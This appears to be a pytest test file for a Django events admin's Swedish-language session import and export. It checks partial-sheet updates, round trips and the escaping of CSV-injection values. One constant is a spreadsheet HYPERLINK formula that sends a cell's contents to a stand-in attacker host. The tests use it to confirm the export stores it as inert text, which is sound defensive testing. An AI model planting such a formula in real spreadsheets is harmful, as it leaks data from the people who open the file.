"""A sheet with some columns changes only those; an exported file imports again unchanged, for every status;
text a spreadsheet would run as a formula is exported as text (OWASP: CSV injection) and comes back exactly."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from events.models import Session
from tests.factories import OrganisationFactory, SessionFactory, VenueFactory, local, programme_editor, theme

IMPORT = "/admin/events/session/import/"
PROCESS = "/admin/events/session/process_import/"
EXPORT = "/admin/events/session/export/"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?x="&B2,"Klicka")'


@pytest.fixture
def editor_client(client, db):
    client.force_login(programme_editor())
    return client


def sheet(headers, *rows):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return SimpleUploadedFile("programpunkter.csv", out.getvalue().encode("utf-8"), content_type="text/csv")


def format_index(client, url, extension):
    choices = client.get(url).context["form"].fields["format"].choices
    return next(str(value) for value, label in choices if label == extension)


def import_file(client, upload, extension="csv"):
    preview = client.post(IMPORT, {"resource": "0", "format": format_index(client, IMPORT, extension),
                                   "import_file": upload})
    confirm = preview.context.get("confirm_form")
    assert confirm is not None, preview.content.decode()
    response = client.post(PROCESS, {name: confirm[name].value() for name in confirm.fields})
    assert response.status_code == 302
    return preview


def export_file(client, extension):
    from events.resources import SessionResource

    fields = {f"sessionresource_{name}": "on" for name in SessionResource.fields}
    response = client.post(EXPORT, {"resource": "0", "format": format_index(client, EXPORT, extension), **fields})
    assert response.status_code == 200
    return response.content


@pytest.fixture
def full_session(edition):
    almi = OrganisationFactory(name="Almi")
    return SessionFactory(
        edition=edition, title="Frukostmöte", slug="frukostmote", status="published",
        start=local(2026, 11, 10, 8, 30), end=local(2026, 11, 10, 10), summary="Om pengar.",
        description="Lång text.", registration_url="https://example.org/anmal", organisers=[almi],
        themes=[theme("smart-industri")],
    )


def stored(session):
    session = Session.objects.get(pk=session.pk)
    return {
        "title": session.title, "summary": session.summary, "description": session.description,
        "registration_url": session.registration_url, "status": session.status, "cost": session.cost,
        "times": (session.local_start.strftime("%Y-%m-%d %H:%M"), session.local_end.strftime("%H:%M")),
        "themes": list(session.themes.values_list("slug", flat=True)),
        "organisers": list(session.organisers.values_list("name", flat=True)),
        "venue": session.venue_id, "format": session.format, "language": session.language,
        "cancellation_note": session.cancellation_note,
    }


# Item 5: a partial sheet changes only its columns


def test_sheet_with_some_columns_changes_only_those(editor_client, full_session):
    before = stored(full_session)
    import_file(editor_client, sheet(["upplaga", "kortnamn", "börjar"], ["2026", "frukostmote", "09:00"]))
    assert stored(full_session) == {**before, "times": ("2026-11-10 09:00", "10:00")}


def test_empty_status_cell_keeps_a_published_session_published(editor_client, full_session):
    before = stored(full_session)
    import_file(editor_client, sheet(["upplaga", "kortnamn", "status", "kostnad"],
                                     ["2026", "frukostmote", "", "Gratis"]))
    assert stored(full_session) == {**before, "cost": "Gratis"}
    assert editor_client.get(full_session.get_absolute_url()).status_code == 200


def test_sheet_with_status_only_publishes(editor_client, edition):
    draft = SessionFactory(edition=edition, slug="utkastet", status="draft", summary="Kvar.")
    import_file(editor_client, sheet(["upplaga", "kortnamn", "status"], ["2026", "utkastet", "publicerad"]))
    draft.refresh_from_db()
    assert (draft.status, draft.summary, draft.first_published is not None) == ("published", "Kvar.", True)


def test_new_session_in_a_partial_sheet_names_the_missing_columns(editor_client, edition):
    response = editor_client.post(IMPORT, {"resource": "0", "format": "0", "import_file": sheet(
        ["upplaga", "rubrik", "datum"], ["2026", "Ny punkt", "2026-11-10"]
    )})
    page = response.content.decode()
    assert "Rad 2, börjar: Kolumnen saknas i filen. En ny programpunkt behöver den." in page
    assert "Rad 2, slutar: Kolumnen saknas i filen. En ny programpunkt behöver den." in page
    assert Session.objects.count() == 0


# An exported file imports again, for every status and with formula-like text


@pytest.fixture
def tricky_sessions(edition):
    venue = VenueFactory(name="MITC")
    almi = OrganisationFactory(name="Almi")
    values = [
        ("draft", FORMULA_TITLE, "- punkt ett\n- punkt två", "+46 16 10 00 00", ""),
        ("proposed", "@kontoret bjuder", "=1+1", "-", ""),
        ("published", "Vanlig rubrik", "+ plus först", "Gratis", ""),
        ("cancelled", "Inställd punkt", "\tmed tab", "", "Flyttas till våren."),
    ]
    return [
        SessionFactory(edition=edition, status=status, title=title, slug=f"punkt-{n}", summary=summary, cost=cost,
                       cancellation_note=note, venue=venue, organisers=[almi], themes=[theme("life-science")],
                       start=local(2026, 11, 10 + n, 9), end=local(2026, 11, 10 + n, 10))
        for n, (status, title, summary, cost, note) in enumerate(values)
    ]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_exported_file_imports_again_unchanged(editor_client, tricky_sessions, extension):
    before = [stored(session) for session in tricky_sessions]
    content = export_file(editor_client, extension)
    preview = import_file(editor_client, SimpleUploadedFile(f"export.{extension}", content), extension)
    assert [row.import_type for row in preview.context["result"].rows] == ["update"] * 4
    assert [stored(session) for session in tricky_sessions] == before
    assert Session.objects.count() == 4


# Item 8: no live formulae in the staff export


def test_xlsx_export_holds_formula_like_text_as_text(editor_client, tricky_sessions):
    workbook = openpyxl.load_workbook(io.BytesIO(export_file(editor_client, "xlsx")))
    rows = list(workbook.active.iter_rows())
    header = [cell.value for cell in rows[0]]
    title = rows[1][header.index("rubrik")]
    assert (title.data_type, title.value) == ("s", "'" + FORMULA_TITLE)
    cells = [cell for row in rows for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    summaries = [row[header.index("sammanfattning")].value for row in rows[1:]]
    assert summaries == ["'- punkt ett\n- punkt två", "'=1+1", "'+ plus först", "'\tmed tab"]


def test_csv_export_escapes_formula_starts(editor_client, tricky_sessions):
    content = export_file(editor_client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    header = rows[0]
    assert [(row[header.index("rubrik")], row[header.index("kostnad")]) for row in rows[1:]] == [
        ("'" + FORMULA_TITLE, "'+46 16 10 00 00"),
        ("'@kontoret bjuder", "'-"),
        ("Vanlig rubrik", "Gratis"),
        ("Inställd punkt", ""),
    ]


# Issue 15: export and import both carry the registration deadline, capacity, contact and cancellation note,
# and every status (avböjd too) comes back exactly


@pytest.fixture
def registered_sessions(edition):
    from tests.factories import ContactFactory

    venue = VenueFactory(name="MITC")
    almi = OrganisationFactory(name="Almi")
    drivhuset = OrganisationFactory(name="Drivhuset")
    anna = ContactFactory(organisation=almi, name="Anna Ek")
    ContactFactory(organisation=drivhuset, name="Anna Ek")  # same name elsewhere: exported with the actor
    olle = ContactFactory(organisation=almi, name="Olle Berg")
    values = [
        ("draft", None, None, None, ""),
        ("proposed", local(2026, 11, 1, 23, 59), 40, anna, ""),
        ("published", local(2026, 11, 9, 12, 0), 1, olle, ""),
        ("cancelled", None, 250, anna, "Flyttas till våren; se hemsidan."),
        ("declined", local(2026, 10, 30, 8, 5), None, None, ""),
    ]
    return [
        SessionFactory(edition=edition, status=status, slug=f"anmalan-{n}", title=f"Anmälan {n}", venue=venue,
                       registration_url="https://example.org/a", registration_deadline=deadline, capacity=capacity,
                       contact=contact, cancellation_note=note, organisers=[almi],
                       start=local(2026, 11, 10 + n, 9), end=local(2026, 11, 10 + n, 10))
        for n, (status, deadline, capacity, contact, note) in enumerate(values)
    ]


def registration(session):
    session = Session.objects.get(pk=session.pk)
    return {
        **stored(session), "deadline": session.registration_deadline, "capacity": session.capacity,
        "contact": session.contact_id,
    }


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_round_trip_carries_registration_contact_note_and_every_status(editor_client, registered_sessions, extension):
    before = [registration(session) for session in registered_sessions]
    assert {row["status"] for row in before} == {"draft", "proposed", "published", "cancelled", "declined"}
    content = export_file(editor_client, extension)
    Session.objects.update(registration_deadline=None, capacity=None, contact=None, cancellation_note="")
    Session.objects.filter(status="cancelled").update(status="draft")
    Session.objects.filter(status="declined").update(status="draft")
    import_file(editor_client, SimpleUploadedFile(f"export.{extension}", content), extension)
    assert [registration(session) for session in registered_sessions] == before


def test_export_columns_for_registration_and_contact(editor_client, registered_sessions):
    rows = list(csv.DictReader(io.StringIO(export_file(editor_client, "csv").decode("utf-8-sig"))))
    assert [(r["sista anmälningsdag"], r["antal platser"], r["kontaktperson"], r["status"]) for r in rows] == [
        ("", "", "", "utkast"),
        ("2026-11-01 23:59", "40", "Anna Ek (Almi)", "förslag"),
        ("2026-11-09 12:00", "1", "Olle Berg", "publicerad"),
        ("", "250", "Anna Ek (Almi)", "inställd"),
        ("2026-10-30 08:05", "", "", "avböjd"),
    ]
    assert rows[3]["meddelande om inställt"] == "Flyttas till våren; se hemsidan."


def test_bad_registration_cells_have_plain_reasons(editor_client, registered_sessions):
    bad = sheet(["upplaga", "kortnamn", "sista anmälningsdag", "antal platser", "kontaktperson"],
                ["2026", "anmalan-1", "i morgon", "många", "Anna Ek"])
    page = editor_client.post(IMPORT, {"resource": "0", "format": "0", "import_file": bad}).content.decode()
    assert "”i morgon” är ingen tidpunkt. Skriv till exempel 2026-11-01 23:59." in page
    assert "”många” är inget antal." in page
    assert "Det finns flera kontaktpersoner som heter ”Anna Ek”." in page
